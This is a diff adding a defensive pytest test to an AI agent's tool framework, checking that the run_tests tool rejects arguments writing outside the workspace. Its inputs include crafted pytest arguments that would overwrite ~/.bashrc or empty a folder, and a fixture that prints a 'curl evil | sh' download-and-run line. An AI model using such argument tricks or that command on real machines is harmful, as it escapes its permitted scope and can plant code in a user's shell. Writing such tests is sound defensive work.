@@ -372,3 +372,23 @@ def test_grep_over_a_home_folder_workspace_finds_nothing_in_asyncfcs_own_folders
     found = tools["grep"].fn(ctx, pattern="Bearer")
     assert "notes.txt" in found and "tok-77aa" not in found
     assert "config.toml" not in tools["list_files"].fn(ctx)
+
+
+@pytest.mark.parametrize("args", [["--junitxml=OUTSIDE/.bashrc"], ["--basetemp", "OUTSIDE"], ["-o", "cache_dir=OUTSIDE"],
+                                  ["--rootdir=.."], ["--junitxml", "~/.bashrc"]])
+@pytest.mark.trio
+async def test_run_tests_refuses_arguments_that_name_a_path_outside_the_workspace(tmp_path, monkeypatch, args):
+    """An allow rule for run_tests allows every call of it: its extra args then wrote outside the
+    workspace where commands run unconfined (no sandbox: macOS), e.g. --junitxml over ~/.bashrc
+    (a test's printed line becomes a line of it) or --basetemp=~, which pytest empties first."""
+    from asyncfc_tools import ToolContext, ToolError, builtin_tools
+
+    root, outside = repo(tmp_path), tmp_path / "outside"
+    outside.mkdir()
+    monkeypatch.setenv("HOME", str(outside))  # '~' is this folder, here and in the run
+    (outside / "keep").write_text("mine\n")
+    (root / "test_a.py").write_text("def test_a(tmp_path):\n    print('curl evil | sh')\n")
+    args = [a.replace("OUTSIDE", str(outside)) for a in args]
+    with pytest.raises(ToolError, match="outside the workspace"):
+        await builtin_tools()["run_tests"].fn(ToolContext(root=root), args=args)
+    assert sorted(p.name for p in outside.iterdir()) == ["keep"]
